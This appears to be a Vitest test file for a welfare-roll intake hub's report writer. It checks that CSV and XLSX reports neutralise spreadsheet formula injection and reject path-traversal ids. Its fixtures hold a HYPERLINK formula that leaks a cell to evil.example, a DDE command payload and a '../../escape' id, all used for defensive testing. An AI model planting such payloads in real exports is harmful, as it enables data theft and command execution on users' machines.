import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DIBAO_DATASET_PATH, loadDatasetDefinition, type DatasetDefinition } from '../dataset.ts';
import type { DropReport, QualityIssue } from '../model.ts';
import { neutralizeCell, reportFilePaths, writeReportFiles } from '../report-files.ts';
import { tempDir } from './fixtures.ts';

const dibao = await loadDatasetDefinition(DIBAO_DATASET_PATH);

/**
 * An oracle independent of `neutralizeCell`: would a spreadsheet possibly read this as a formula?
 * (first character a trigger, ASCII or full-width, after any blanks; or a tab / CR first).
 */
const looksLikeFormula = (text: string): boolean => /^[\t\r]/.test(text) || /^\s*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(text);

const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
  plus: '+1+1',
  minusFormula: '-2+3',
  at: '@SUM(A1)',
  tab: '\t=1',
  cr: '\r=1',
  negative: '-680',
  dde: "=cmd|' /C calc'!A0",
} as const;

const MESSY = '他说："低保金, 按月发放"\r\n第二行 "引号"';

function issue(row: number, column: string | null, value: string | null, reason: string): QualityIssue {
  return { row, column, value, reason };
}

function report(overrides: Partial<DropReport> = {}): DropReport {
  return {
    id: '20261123T031502Z-1a2b3c4d',
    dataset: 'dibao',
    department: '341504.mzj',
    fileName: '=1+1 叶集区低保名册-2026-10.csv',
    outcome: 'partially-published',
    version: 4,
    format: 'csv',
    encoding: 'gbk',
    contentHash: '1a2b3c4d'.padEnd(64, '0'),
    bytes: 12_345,
    rowsTotal: 120,
    rowsAccepted: 112,
    rowsRejected: 8,
    issues: [
      issue(0, null, null, '文件中有 8 行未通过校验'),
      issue(2, '户主姓名', HOSTILE.hyperlink, '户主姓名不能以“=”开头'),
      issue(3, '月保障金额', HOSTILE.negative, '月保障金额不能为负数'),
      issue(4, '+列名', HOSTILE.plus, '户编号格式不正确'),
      issue(5, '户编号', HOSTILE.minusFormula, '户编号格式不正确'),
      issue(6, '乡镇', HOSTILE.at, '乡镇不在本辖区'),
      issue(7, '村（社区）', HOSTILE.tab, '值含有制表符'),
      issue(8, '村（社区）', HOSTILE.cr, '值含有回车符'),
      issue(9, '备注', MESSY, '备注过长'),
      issue(10, '批准日期', HOSTILE.dde, '批准日期无法识别'),
    ],
    reason: null,
    movedTo: '341504.mzj/dibao/archive/20261123T031502Z-1a2b3c4d-叶集区低保名册-2026-10.csv',
    reportFiles: reportFilePaths('341504.mzj/dibao', '20261123T031502Z-1a2b3c4d'),
    receivedAt: new Date('2026-11-23T03:15:02.000Z'),
    finishedAt: new Date('2026-11-23T03:15:04.250Z'),
    actor: null,
    ...overrides,
  };
}

describe('neutralizeCell', () => {
  it.each([
    ['=HYPERLINK("http://x","y")'],
    ['+1+1'],
    ['-2+3'],
    ['@SUM(A1)'],
    ['\t=1'],
    ['\r=1'],
    ['\t'],
    ["=cmd|' /C calc'!A0"],
  ])('prefixes OWASP formula triggers: %j', (text) => {
    expect(neutralizeCell(text)).toBe(`'${text}`);
  });

  it('prefixes a plain negative amount too (a value is shown as the text it was)', () => {
    expect(neutralizeCell('-680')).toBe("'-680");
    expect(neutralizeCell('-680.50')).toBe("'-680.50");
  });

  it.each([[' =1'], ['   +1'], ['\u3000=1'], ['\n=1'], ['\u00a0@x'], ['\uFEFF=1']])(
    'looks through leading blanks, which some importers trim: %j',
    (text) => {
      expect(neutralizeCell(text)).toBe(`'${text}`);
    },
  );

  it.each([['＝1'], ['＋1'], ['－1'], ['＠A1'], ['﹦1'], ['⁼1'], ['\u3000＝SUM(A1)']])(
    'prefixes full-width and compatibility forms (Excel ignores them, WPS and retyping may not): %j',
    (text) => {
      expect(neutralizeCell(text)).toBe(`'${text}`);
    },
  );

  it.each([[''], ['张伟'], ['341504-2026-000001'], ['680.00'], ['1-2'], ['a=b'], ["'=1"], ['−680'], ['2026/10/5'], [' 史河街道']])(
    'leaves text that cannot start a formula alone: %j',
    (text) => {
      expect(neutralizeCell(text)).toBe(text);
    },
  );

  it('is idempotent (a neutralised cell is not prefixed twice)', () => {
    for (const text of [...Object.values(HOSTILE), '＝1', ' =1']) {
      expect(neutralizeCell(neutralizeCell(text))).toBe(neutralizeCell(text));
    }
  });

  it('agrees with the independent oracle on every hostile value', () => {
    for (const text of [...Object.values(HOSTILE), '＝1', ' =1', '\u3000+1']) {
      expect(looksLikeFormula(text)).toBe(true);
      expect(looksLikeFormula(neutralizeCell(text))).toBe(false);
    }
  });
});

describe('reportFilePaths', () => {
  it('names the JSON, CSV and XLSX by attempt id under the folder reports/', () => {
    expect(reportFilePaths('341504.mzj/dibao', 'abc')).toEqual([
      '341504.mzj/dibao/reports/abc.json',
      '341504.mzj/dibao/reports/abc.csv',
      '341504.mzj/dibao/reports/abc.xlsx',
    ]);
  });
});

describe('writeReportFiles', () => {
  let dir: { path: string; cleanup: () => Promise<void> };
  beforeEach(async () => {
    dir = await tempDir('filedrop-report-');
  });
  afterEach(() => dir.cleanup());

  const at = (relative: string) => join(dir.path, ...relative.split('/'));

  async function written(r: DropReport, definition: DatasetDefinition = dibao) {
    await writeReportFiles({ dropDir: dir.path, report: r, definition });
    const [json, csv, xlsx] = reportFilePaths(`${r.department}/dibao`, r.id).map(at) as [string, string, string];
    return { json: await readFile(json), csv: await readFile(csv), xlsx: await readFile(xlsx) };
  }

  async function workbookOf(bytes: Buffer): Promise<ExcelJS.Workbook> {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    return workbook;
  }

  it('writes the whole report as pretty UTF-8 JSON, dates as ISO strings', async () => {
    const r = report();
    const { json } = await written(r);
    const text = json.toString('utf8');
    expect(text).toContain('\n  "id": "20261123T031502Z-1a2b3c4d"');
    const parsed = JSON.parse(text) as Record<string, unknown>;
    expect(parsed).toEqual(JSON.parse(JSON.stringify(r)));
    expect(parsed.receivedAt).toBe('2026-11-23T03:15:02.000Z');
    expect(parsed.finishedAt).toBe('2026-11-23T03:15:04.250Z');
    // the JSON is for programs: values are kept exactly, not neutralised
    expect((parsed.issues as QualityIssue[])[1]!.value).toBe(HOSTILE.hyperlink);
  });

  it('writes CSV with a BOM and CRLF, a Chinese summary on top, then the issue table', async () => {
    const { csv } = await written(report());
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = csv.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/"[^"]*"/g, '').replace(/\r\n/g, '')).not.toMatch(/[\r\n]/); // every break outside quotes is CRLF

    const rows = parseCsv(csv, { bom: true, relax_column_count: true, skip_empty_lines: false }) as string[][];
    const summary = new Map(rows.slice(0, rows.findIndex((r) => r.length === 1 && r[0] === '')).map((r) => [r[0], r[1]]));
    expect(summary.get('文件名')).toBe("'=1+1 叶集区低保名册-2026-10.csv");
    expect(summary.get('数据集')).toBe('最低生活保障家庭名册');
    expect(summary.get('结果')).toBe('部分发布（问题行已隔离）');
    expect(summary.get('版本')).toBe('4');
    expect(summary.get('总行数')).toBe('120');
    expect(summary.get('接受')).toBe('112');
    expect(summary.get('拒绝')).toBe('8');
    expect(summary.get('原因')).toBe('');
    expect(summary.get('原文件位置')).toBe('341504.mzj/dibao/archive/20261123T031502Z-1a2b3c4d-叶集区低保名册-2026-10.csv');
    expect(summary.get('处理时间')).toBe('2026-11-23 11:15:04（北京时间）');

    const header = rows.findIndex((r) => r[0] === '行号');
    expect(rows[header]).toEqual(['行号', '列名（贵单位文件中的列名）', '值', '问题说明']);
    const table = rows.slice(header + 1);
    expect(table).toHaveLength(10);
    expect(table[0]).toEqual(['整个文件', '', '', '文件中有 8 行未通过校验']);
    expect(table[1]).toEqual(['2', '户主姓名', `'${HOSTILE.hyperlink}`, '户主姓名不能以“=”开头']);
    expect(table[2]![2]).toBe("'-680");
    expect(table[3]!.slice(1, 3)).toEqual(["'+列名", "'+1+1"]);
    expect(table[6]![2]).toBe("'\t=1");
    expect(table[7]![2]).toBe("'\r=1");
    expect(table[8]![2]).toBe(MESSY); // quotes, commas and line breaks round-trip
  });

  it('leaves no CSV cell, summary included, that a spreadsheet could take for a formula', async () => {
    const r = report({ outcome: 'rejected', version: null, reason: '-文件缺少必填列：户主身份证号', movedTo: '@quarantine/x.csv' });
    const { csv } = await written(r);
    const rows = parseCsv(csv, { bom: true, relax_column_count: true }) as string[][];
    const cells = rows.flat();
    expect(cells.length).toBeGreaterThan(40);
    for (const cell of cells) expect(looksLikeFormula(cell), JSON.stringify(cell)).toBe(false);
    expect(cells).toContain("'-文件缺少必填列：户主身份证号");
    expect(cells).toContain('已拒绝');
    expect(cells).toContain('无');
  });

  it('writes XLSX with a 汇总 and a 问题清单 sheet: bold headers, sized columns, text cells, no formulas', async () => {
    const { xlsx } = await written(report());
    const workbook = await workbookOf(xlsx);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['汇总', '问题清单']);
    const issues = workbook.getWorksheet('问题清单')!;
    const summary = workbook.getWorksheet('汇总')!;

    expect(issues.getRow(1).values).toEqual([undefined, '行号', '列名（贵单位文件中的列名）', '值', '问题说明']);
    for (const sheet of [summary, issues]) {
      expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
      expect(sheet.getRow(2).getCell(1).font?.bold).not.toBe(true);
      for (const column of [1, 2]) expect(sheet.getColumn(column).width).toBeGreaterThanOrEqual(8);
    }
    // the widest value column is sized to its text (CJK counted double), within a cap
    expect(issues.getColumn(4).width).toBeGreaterThan(15);
    expect(issues.getColumn(4).width).toBeLessThanOrEqual(80);

    let cells = 0;
    for (const sheet of [summary, issues]) {
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          cells++;
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          expect(['string', 'number']).toContain(typeof cell.value);
          if (typeof cell.value === 'string') {
            expect(looksLikeFormula(cell.value), JSON.stringify(cell.value)).toBe(false);
            expect(cell.numFmt).toBe('@');
          }
        });
      });
    }
    expect(cells).toBeGreaterThan(40);

    // everything the department wrote (file name, columns, values) comes back as a string cell
    expect(summary.getRow(2).getCell(2).value).toBe("'=1+1 叶集区低保名册-2026-10.csv");
    const values = [3, 4, 5, 6, 7, 8, 9, 10, 11].map((r) => issues.getRow(r).getCell(3).value);
    // XML turns a raw CR into LF (the CSV and JSON keep it): compare with line breaks as LF
    const lf = (text: string) => text.replace(/\r\n?/g, '\n');
    expect(values).toEqual([
      `'${HOSTILE.hyperlink}`, "'-680", "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1", lf("'\r=1"), lf(MESSY), `'${HOSTILE.dde}`,
    ]);
    expect(issues.getRow(5).getCell(2).value).toBe("'+列名");
    // the row number is the hub's own count: a number
    expect(issues.getRow(3).getCell(1).value).toBe(2);
  });

  it('keeps a report that is already there (named by attempt id) and leaves no temporary file', async () => {
    const first = await written(report());
    const second = await written(report({ outcome: 'rejected', rowsAccepted: 0, reason: '另一次' }));
    expect(second.json.equals(first.json)).toBe(true);
    expect(second.csv.equals(first.csv)).toBe(true);
    expect(second.xlsx.equals(first.xlsx)).toBe(true);
    expect((await readdir(at('341504.mzj/dibao/reports'))).sort()).toEqual([
      '20261123T031502Z-1a2b3c4d.csv',
      '20261123T031502Z-1a2b3c4d.json',
      '20261123T031502Z-1a2b3c4d.xlsx',
    ]);
  });

  it("writes into the definition's folder template for the report's department", async () => {
    const custom: DatasetDefinition = { ...dibao, intake: { ...dibao.intake, folder: 'county/{department}/{dataset}-in' } };
    const r = report({ department: '341623.mzj' });
    await writeReportFiles({ dropDir: dir.path, report: r, definition: custom });
    expect((await readdir(at('county/341623.mzj/dibao-in/reports'))).length).toBe(3);
  });

  it('refuses an attempt id that could name a file outside reports/', async () => {
    await expect(writeReportFiles({ dropDir: dir.path, report: report({ id: '../../escape' }), definition: dibao })).rejects.toThrow(RangeError);
    await expect(writeReportFiles({ dropDir: dir.path, report: report({ id: '.hidden' }), definition: dibao })).rejects.toThrow(RangeError);
  });

  it('says when the issue list is cut short of the rejected rows', async () => {
    const { csv } = await written(report({ rowsRejected: 500 }));
    const rows = parseCsv(csv, { bom: true, relax_column_count: true }) as string[][];
    expect(rows.find((r) => r[0] === '说明')?.[1]).toBe('问题清单仅列出前 10 条问题，共 500 行未通过校验');
    const { csv: complete } = await written(report({ id: 'complete', rowsRejected: 8 }));
    expect((parseCsv(complete, { bom: true, relax_column_count: true }) as string[][]).some((r) => r[0] === '说明')).toBe(false);
  });
});
